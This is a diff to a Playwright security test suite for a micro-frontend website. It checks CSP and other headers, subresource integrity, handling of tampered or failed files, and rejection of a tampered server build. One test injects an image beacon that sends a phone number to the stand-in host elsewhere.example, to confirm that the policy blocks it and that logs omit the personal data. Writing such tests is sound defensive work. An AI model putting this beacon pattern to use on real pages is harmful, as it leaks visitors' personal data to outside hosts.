@@ -3,10 +3,12 @@ import path from 'node:path'
 import { paths } from '@marram/contracts/paths'
 import type { Page } from '@playwright/test'
 import { aFewAtATime } from './support/a-few-at-a-time'
+import { edgeLog } from './support/edge-log'
 import { addressOf, patterns } from './support/every-page'
+import { promote, publish } from './support/releases'
 import type { Site } from './support/site'
 import { expect, test } from './support/test'
-import { buildVariant, documentOf, liveVersions, release } from './support/variant'
+import { buildVariant, documentOf, liveVersions } from './support/variant'
 import { ready, watch } from './support/watch'
 
 const everyAddress = (site: Site): Promise<string[]> => Promise.all(patterns.map((pattern) => addressOf(site, pattern)))
@@ -55,16 +57,35 @@ test('every document says what a browser may do with it, and names no script or 
     expect(headers.get('content-security-policy'), address).toMatch(
       /^default-src 'none'; script-src 'self' 'sha256-[A-Za-z0-9+/=]{44}'; style-src 'self' 'unsafe-inline';/,
     )
+    for (const directive of ['object-src', 'base-uri', 'frame-ancestors'])
+      expect(headers.get('content-security-policy'), address).toContain(`; ${directive} 'none'`)
+    expect(headers.get('content-security-policy'), address).toContain("; form-action 'self'; ")
     expect(headers.get('x-content-type-options'), address).toBe('nosniff')
+    expect(headers.get('cross-origin-opener-policy'), address).toBe('same-origin')
+    expect(headers.get('permissions-policy'), address).toContain('camera=()')
+    // Visitors of this site come by http.
+    for (const absent of ['strict-transport-security', 'server', 'x-powered-by'])
+      expect(headers.get(absent), `${absent} ${address}`).toBeNull()
     expect(headers.get('cache-control'), address).toBe('private, no-cache')
     const personal = address.startsWith('/quiz-re')
     expect(headers.get('referrer-policy'), address).toBe(personal ? 'no-referrer' : 'strict-origin-when-cross-origin')
     const tags = tagsOf(html)
-    expect(tags.length, address).toBeGreaterThan(2)
+    expect(tags.length, address).toBeGreaterThan(1)
     for (const tag of tags) expect(tag, address).toMatch(/crossorigin.* integrity="sha384-[A-Za-z0-9+/]{64}"/)
     // The only script without a file is the boot script, whose hash is in the policy.
     expect(html.match(/<script>(?!\s*<\/script>)/g), address).toHaveLength(1)
   }
+})
+
+test('what the policy refuses is told to operators, and not who read the page', async ({ site, page }) => {
+  await page.goto(site.url + paths.quizResponse('Rosalind', '0123456789'))
+  await page.evaluate(() => {
+    new Image().src = 'https://elsewhere.example/pixel?phone=0123456789'
+  })
+  const refused = () => /^.*the policy refused something.*$/m.exec(edgeLog(site))?.[0] ?? ''
+  await expect.poll(refused).toContain('"blocked":"https://elsewhere.example"')
+  expect(refused()).toContain('"page":"/quiz-response/:name/:phone"')
+  expect(edgeLog(site)).not.toMatch(/Rosalind|0123456789/)
 })
 
 test('every file of a page may be kept for ever, and is what it is said to be', async ({ site }) => {
@@ -72,8 +93,10 @@ test('every file of a page may be kept for ever, and is what it is said to be', 
   const files = [...html.matchAll(/(?:src|href)="(\/releases\/files\/[^"]+)"/g)].map(([, url]) => url as string)
   expect(files.length).toBeGreaterThan(6)
   for (const file of files) {
-    const { status, headers } = await fetch(site.url + file)
+    const response = await fetch(site.url + file)
+    const { status, headers } = response
     expect(status, file).toBe(200)
+    expect(await response.text(), file).not.toContain('sourceMappingURL')
     expect(headers.get('cache-control'), file).toBe('public, max-age=31536000, immutable')
     expect(headers.get('x-content-type-options'), file).toBe('nosniff')
     expect(headers.get('content-type'), file).toMatch(/^(text\/(javascript|css)|image\/|font\/)/)
@@ -82,21 +105,18 @@ test('every file of a page may be kept for ever, and is what it is said to be', 
 
 test.describe('a file that was changed on its way is refused', () => {
   const form = paths.registration('sports-entry')
-  const cases: { name: string; match: RegExp; address: string; still: 'page' | 'failure' }[] = [
-    { name: 'the entry of a section', match: /mfe-events\/.*remoteEntry/, address: '/sports', still: 'failure' },
-    { name: 'the chunk of a page', match: /mfe-events\/.*\/static\/js\/async\//, address: '/sports', still: 'failure' },
-    { name: 'the shared chunk of antd', match: /shell\/.*antd/, address: form, still: 'failure' },
-    { name: 'a style', match: /\/shell\/.*\.css/, address: '/sports', still: 'page' },
+  const cases: { name: string; match: RegExp; address: string }[] = [
+    { name: 'the entry of a section', match: /mfe-events\/.*remoteEntry/, address: '/sports' },
+    { name: 'the chunk of a page', match: /mfe-events\/.*\/static\/js\/async\//, address: '/sports' },
+    { name: 'the shared chunk of antd', match: /shell\/.*antd/, address: form },
   ]
 
-  for (const { name, match, address, still } of cases) {
+  for (const { name, match, address } of cases) {
     test(`${name}: header, footer and the rest of the site work`, async ({ faults, page }) => {
       faults.faults = [{ match, do: 'tamper' }]
       await page.goto(faults.url + address, { waitUntil: 'commit' })
       await ready(page)
-      const applied = await page.evaluate(() => [...document.styleSheets].map(({ href }) => href ?? ''))
-      expect(applied.filter((url) => match.test(url))).toEqual([])
-      if (still === 'failure') await expect(page.getByRole('button', { name: 'Try again' })).toBeVisible()
+      await expect(page.getByRole('button', { name: 'Try again' })).toBeVisible()
       await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
       await expect(page.getByRole('banner')).toBeVisible()
       await expect(page.getByRole('contentinfo')).toBeVisible()
@@ -124,20 +144,15 @@ test.describe('a file that was changed on its way is refused', () => {
 })
 
 test.describe('a file of the document that comes at the second try', () => {
-  for (const [name, match] of [
-    ['the shell’s own script', /\/shell\/.*\/static\/js\/index/],
-    ['the shell’s own style', /\/shell\/.*\/static\/css\//],
-  ] as const)
-    for (const fault of ['500', 'tamper'] as const)
-      test(`${name}, after ${fault}: the page is as always`, async ({ faults, page }) => {
-        faults.faults = [{ match, do: fault, times: 1 }]
-        await page.goto(faults.url)
-        expect(await ready(page)).toBe('hydrated')
-        expect(faults.asked.filter((url) => match.test(url) && url.includes('?retry=1'))).toHaveLength(1)
-        const applied = await page.evaluate(() => [...document.styleSheets].map(({ href }) => href ?? ''))
-        expect(applied.filter((url) => /\/shell\/.*\.css/.test(url))).toHaveLength(1)
-        expect(await tampered(page)).toBeUndefined()
-      })
+  const match = /\/shell\/.*\/static\/js\/index/
+  for (const fault of ['500', 'tamper'] as const)
+    test(`the shell’s own script, after ${fault}: the page is as always`, async ({ faults, page }) => {
+      faults.faults = [{ match, do: fault, times: 1 }]
+      await page.goto(faults.url)
+      expect(await ready(page)).toBe('hydrated')
+      expect(faults.asked.filter((url) => match.test(url) && url.includes('?retry=1'))).toHaveLength(1)
+      expect(await tampered(page)).toBeUndefined()
+    })
 })
 
 test('a server build that was changed in the registry’s storage is refused, recorded, and the last good one is shown', async ({
@@ -149,7 +164,7 @@ test('a server build that was changed in the registry’s storage is refused, re
     version: '9.4.0',
     edits: { 'src/sports/sports.tsx': [['title="Run, ride or swim with us"', 'title="Come and run"']] },
   })
-  await release(site, 'publish', folder)
+  await publish(site, folder)
   const { server, files } = JSON.parse(fs.readFileSync(path.join(folder, 'release.json'), 'utf8')) as {
     server: string
     files: Record<string, { integrity: string }>
@@ -161,7 +176,8 @@ test('a server build that was changed in the registry’s storage is refused, re
   expect(stored.length).toBeGreaterThan(0)
   for (const file of stored) fs.writeFileSync(path.join(site.data, file), 'module.exports = { pages: {} }')
   try {
-    await release(site, 'promote', 'mfe-events', '9.4.0')
+    // The gate may have looked at it before it was changed, or be against it now.
+    await promote(site, 'mfe-events', '9.4.0', { override: true })
     const log = () => fs.readFileSync(path.join(site.data, 'logs/edge.log'), 'utf8')
     await expect.poll(log, { timeout: 15_000 }).toMatch(/"version":"9\.4\.0".*a release cannot be used/)
     const { html, outcome } = await documentOf(site, '/sports')
@@ -169,6 +185,6 @@ test('a server build that was changed in the registry’s storage is refused, re
     expect(html).toContain('Run, ride or swim with us')
     expect(html).not.toContain('Come and run')
   } finally {
-    await release(site, 'promote', 'mfe-events', before)
+    await promote(site, 'mfe-events', before)
   }
 })
